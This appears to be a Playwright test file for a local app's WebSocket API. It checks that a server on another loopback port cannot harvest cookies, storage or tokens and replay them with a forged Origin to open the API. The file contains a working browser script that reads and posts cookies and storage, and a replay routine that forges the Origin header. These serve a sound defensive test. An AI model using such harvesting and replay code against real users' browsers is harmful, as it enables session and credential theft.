/**
 * Issue 15, finding 2: cookies ignore ports, so anything the browser keeps for 127.0.0.1 is also
 * sent to every other local port. A second HTTP server on another loopback port, visited by the
 * same browser after the app, records everything it receives (request lines, every header, every
 * cookie, and what its page can read: document.cookie, storage, referrer, window.name) and then
 * tries all of it against the app's API over the WebSocket, forging the app's Origin. None of it
 * may open the API; the app's own page still can.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import WebSocket from 'ws';
import { expect, test } from './fixtures';

interface Recorded {
  requests: { method: string; url: string; headers: http.IncomingHttpHeaders }[];
  pageReports: Record<string, unknown>[];
}

const SNOOP_PAGE = `<!doctype html><html><head><title>Another local service</title></head><body>
<h1>Another local service</h1>
<script>
  const read = (s) => { try { const o = {}; for (let i = 0; i < s.length; i++) o[s.key(i)] = s.getItem(s.key(i)); return o; } catch (e) { return String(e); } };
  fetch('/report', { method: 'POST', body: JSON.stringify({
    cookie: document.cookie, referrer: document.referrer, name: window.name, href: location.href,
    local: read(localStorage), session: read(sessionStorage),
  }) }).then(() => { document.title = 'reported'; });
</script></body></html>`;

async function startSnoop(): Promise<{ url: string; recorded: Recorded; close: () => Promise<void> }> {
  const recorded: Recorded = { requests: [], pageReports: [] };
  const server = http.createServer((req, res) => {
    recorded.requests.push({ method: req.method ?? '', url: req.url ?? '', headers: { ...req.headers } });
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (d) => (body += String(d)));
      req.on('end', () => {
        recorded.pageReports.push(JSON.parse(body) as Record<string, unknown>);
        res.writeHead(204).end();
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(SNOOP_PAGE);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    recorded,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** Every string the snooping server learned: header values, cookie values, URL parts, page reports. */
function candidates(rec: Recorded): { cookies: string[]; secrets: string[] } {
  const secrets = new Set<string>();
  const cookies = new Set<string>(['']);
  const addText = (s: string) => {
    secrets.add(s);
    for (const part of s.split(/[;&=,\s#?/]+/)) if (part) secrets.add(part);
  };
  const walk = (v: unknown) => {
    if (typeof v === 'string') addText(v);
    else if (v && typeof v === 'object') for (const x of Object.values(v)) walk(x);
  };
  for (const r of rec.requests) {
    addText(r.url);
    for (const [name, value] of Object.entries(r.headers)) {
      for (const v of Array.isArray(value) ? value : [value ?? '']) {
        addText(v);
        if (name === 'cookie') cookies.add(v);
      }
    }
  }
  for (const report of rec.pageReports) {
    walk(report);
    if (typeof report.cookie === 'string' && report.cookie) cookies.add(report.cookie);
  }
  return { cookies: [...cookies], secrets: [...secrets] };
}

/**
 * Tries to call `app.status` on the host's WebSocket the way a local attacker could: the app's
 * Origin forged, the given cookie header, the secret in the query and as the first message.
 */
function opensApi(appOrigin: string, cookie: string, secret: string): Promise<boolean> {
  return new Promise((resolve) => {
    const wsUrl = `${appOrigin.replace('http', 'ws')}/__rapport/ws?token=${encodeURIComponent(secret)}`;
    const headers: Record<string, string> = { origin: appOrigin };
    if (cookie) headers.cookie = cookie;
    const ws = new WebSocket(wsUrl, { headers });
    const done = (v: boolean) => {
      clearTimeout(timer);
      ws.removeAllListeners();
      ws.on('error', () => {});
      ws.terminate();
      resolve(v);
    };
    const timer = setTimeout(() => done(false), 1500);
    ws.on('open', () => {
      ws.send(JSON.stringify({ auth: secret }));
      ws.send(JSON.stringify({ id: 1, method: 'app.status', input: {} }));
    });
    ws.on('message', (m) => {
      const msg = JSON.parse(String(m)) as { id?: number; result?: { ok?: boolean } };
      if (msg.id === 1 && msg.result?.ok === true) done(true);
    });
    ws.on('error', () => done(false));
    ws.on('close', () => done(false));
    ws.on('unexpected-response', () => done(false));
  });
}

test('a server on another loopback port learns nothing that opens the API', async ({ page, context, host }) => {
  const snoop = await startSnoop();
  try {
    const appOrigin = new URL(host.url).origin;
    expect(new URL(snoop.url).port).not.toBe(new URL(host.url).port);

    await page.goto(host.url);
    await expect(page.getByRole('heading', { name: 'Create your vault' })).toBeVisible();

    // The same tab goes on to the other port, and a second tab of the same browser visits it too.
    await page.goto(snoop.url);
    await expect(page).toHaveTitle('reported');
    const second = await context.newPage();
    await second.goto(snoop.url);
    await expect(second).toHaveTitle('reported');
    await second.close();

    expect(snoop.recorded.requests.length).toBeGreaterThanOrEqual(4);
    expect(snoop.recorded.pageReports).toHaveLength(2);
    const { cookies, secrets } = candidates(snoop.recorded);
    expect(secrets.length).toBeGreaterThan(10);

    const opened: string[] = [];
    for (const cookie of cookies) {
      for (const secret of secrets) {
        if (await opensApi(appOrigin, cookie, secret)) opened.push(`cookie=${JSON.stringify(cookie)} secret=${JSON.stringify(secret)}`);
      }
    }
    expect(opened).toEqual([]);

    // The same attempt with what only the app's page was given does open it (the check is real),
    // and the app's page, back on its own port, still works.
    const token = new URL(host.url).hash.replace(/^#token=/, '');
    expect(token.length).toBeGreaterThan(20);
    expect(await opensApi(appOrigin, '', token)).toBe(true);
    await page.goto(host.url);
    await expect(page.getByRole('heading', { name: 'Create your vault' })).toBeVisible();
  } finally {
    await snoop.close();
  }
});
